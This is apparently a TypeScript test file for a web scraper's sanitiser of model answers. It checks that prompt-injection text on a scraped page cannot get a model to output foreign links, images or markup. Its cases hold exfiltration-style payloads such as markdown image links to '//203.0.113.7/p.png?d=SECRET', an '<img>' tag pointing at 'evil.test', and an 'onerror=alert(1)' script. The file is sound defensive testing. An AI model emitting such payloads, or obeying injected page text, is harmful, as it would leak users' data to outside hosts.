// @vitest-environment node
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { answerByModel } from '@/answers/answer-by-model';
import { createAsker } from '@/answers/asker';
import { safeText, safeValue } from '@/answers/safe-text';
import { emptyReport } from '@/contract/capture-report';
import type { FormatRequest } from '@/contract/request/scrape-request';
import type { ScrapeData } from '@/contract/scrape-data';
import type { Model } from '@/models/model';
import { english } from '../../support/locale';
import { textOf } from '../../support/models/plain-reply';
import { seatOf } from '../../support/models/seat-of';
import { scriptedModel } from '../../support/models/scripted-model';
import { INJECTIONS } from '../../support/models/injections';

const url = 'https://shop.example/kettle';

/** A page that says something, and what is asked about it. */
function orderOf(said: string, formats: FormatRequest[]) {
  const markdown = `# Kettle\n\nIt boils water in two minutes. [Maker](https://maker.example/about)\n\n${said}`;
  const data: ScrapeData & { markdown: string } = { metadata: {}, markdown };
  return { request: { formats }, data, report: emptyReport(), url };
}

// Promise models-lead-nowhere (What a page can do to us): Whatever a page makes a model say, its answer has no address
// that was not on the page, no picture and no markup.
it.each(INJECTIONS)(
  'a page that says %s gets no address into an answer, even if the model obeys it',
  async (said, obeyed) => {
    const model = scriptedModel((_, schema) => {
      if (schema === undefined) return obeyed;
      const isQuestion = JSON.stringify(schema).includes('passages');
      return JSON.stringify(isQuestion ? { answer: obeyed, passages: [1] } : { what: obeyed });
    });
    const question = { type: 'question', question: 'What is it?' } as const;
    const order = orderOf(said, ['summary', question, JSON_FORMAT]);
    const { markdown } = order.data;
    await answerByModel(order, seatOf(askerOf(model)), english);
    const { summary, answer, json } = order.data;
    const answers = `${summary} ${answer} ${JSON.stringify(json)}`;
    const page = `${markdown} ${url}`.toLowerCase();
    for (const address of answers.match(ADDRESSES) ?? []) {
      const [bare = ''] = address.toLowerCase().split('#:~:text=');
      expect(page).toContain(bare.replace(/[.,!?)]+$/u, ''));
    }
    expect(answers).not.toMatch(MARKUP);
  },
);

it.each(INJECTIONS)('%s stays between the lines that mark it as data', async (said) => {
  const model = scriptedModel(() => 'Fine.');
  const order = orderOf(said, ['summary']);
  await answerByModel(order, seatOf(askerOf(model)), english);
  const [instructions, asked] = model.asked[0]?.messages ?? [];
  expect(instructions?.content).not.toContain(said);
  expect(textOf(asked?.content ?? '')).toBe(order.data.markdown);
});

function askerOf(model: Model) {
  return createAsker(model, new AbortController().signal, () => {});
}

it('keeps what the page itself has', () => {
  const page = String.raw`See https://a.example/x?y=1 or (https://a.example/F_(b)), mail me@a.example.
    [Wiki](https://w.example/Foo_(bar)) runs Node.js at 127.0.0.1:80; //b.example/c, https://a.example/foo\_bar`;
  for (const kept of [
    'See https://a.example/x?y=1.',
    'me@a.example, //b.example/c and 127.0.0.1:80.',
    'https://a.example/foo_bar',
    '(https://a.example/F_(b))',
    '[x](https://a.example/x?y=1)',
    '[x](https://w.example/Foo_(bar))',
    'On a.example it costs 1.99, e.g. Node.js v2.0 at 10:30, 3 < 4 [1] and/or 5//6 (Ph.D.)',
  ])
    expect(safeText(kept, page)).toBe(kept);
  expect(safeText('It ends.Then it is *bold*.', page)).toBe('It ends. Then it is *bold*.');
});

it.each([
  ['a tag in a link', '![x]<b>(//203.0.113.7/p.png?d=SECRET)', 'x'],
  ['a tag in a tag', '<<b>img src=//evil.test?d=SECRET>', '‹img src=…>'],
  ['brackets in a picture', '![[x]](//203.0.113.7/p?d=1)', '[[x]] (…)'],
  ['a reference', '![x][1]\n\n[1]: //203.0.113.7/p', '[x] [1]\n\n[1] : …'],
  ['a tag that never ends', '<img src=x onerror=alert(1) ', '‹img src=x onerror=alert(1) '],
  ['a tag that the page shows as code', '<img src=x onerror=a()>', ''],
  ['a host', 'evil.de', '…'],
  ['a host of digits', '1.2.3.4/x', '…'],
  ['an address without a scheme', '//evil.de?d=SECRET', '…'],
  ['backslashes', String.raw`https:\\evil.de/x`, '…'],
  ['the page of the site', '[go](/)', 'go'],
  ['the beginning of an address', 'https://a.example/x', '…'],
  ['other letter cases', 'HTTPS://A.example/x?y=1', '…'],
  ['a host behind a dot', 'So .evil.de', 'So .…'],
  ['a host before a dash', 'evil.de- now', '…- now'],
])('lets nothing live through: %s', (_, written, safe) => {
  const page = 'a/b `<img src=x onerror=a()>` https://a.example/x?y=1';
  expect(safeText(written, page)).toBe(safe);
});

it('leaves nothing live, however it is put together, and nothing to do a second time', () => {
  const live =
    '![ [ ] ]( ( ) < > <b> <img ! : / // " evil . de https: javascript: https://a.example/';
  const pieces = fc.constantFrom(...live.split(' '), ' ', '\n', '1 ', '203.0.113.7/');
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 14 }), (written) => {
      const safe = safeText(written.join(''), 'See https://a.example/ for it.');
      expect(safe).not.toMatch(
        /<[a-z/!?]|!\[|\]\[|\]:|evil\.de(?!\d)|203\.0|\bjavascript:[^\s…[]/iu,
      );
      const others = safe.replaceAll('https://a.example/', '');
      expect(others).not.toMatch(/\]\((?!\))|\p{L}:\/\/|(?<![/:\p{L}\p{N}])\/\/[\p{L}\p{N}]/u);
      expect(safeText(safe, 'See https://a.example/ for it.')).toBe(safe);
    }),
    { numRuns: 2000 },
  );
});

// Work that grows with the square of the length would outlast the time limit of a test.
it.each(['a', 'a.', '[', '](', '<a', '//', 'a:', '@a'])(
  'is done soon with endless words of %s',
  (piece) => {
    const text = piece.repeat(100_000);
    expect(safeText(text, text)).not.toBe('');
  },
);

it('cleans all texts and keys of a value', () => {
  const value = { 'https://evil.test/': ['![x](https://evil.test/p)', 1, null, true] };
  expect(safeValue(value, '')).toEqual({ '…': ['x', 1, null, true] });
});

const JSON_FORMAT = {
  type: 'json',
  prompt: 'What is it?',
  schema: { type: 'object', properties: { what: { type: 'string' } } },
} as const;

const MARKUP = /!\[|<\s*(?:img|script|a|iframe|form|style|svg)\b|javascript:|data:text/iu;
const ADDRESSES =
  /\b[a-z][a-z\d+.-]*:\/\/[^\s)>"']+|\bwww\.[^\s)>"']+|[\w.]+@[\w-]+\.[\w.]+|\bevil[^\s)>"']*\.[a-z]{2,}[^\s)>"']*/giu;
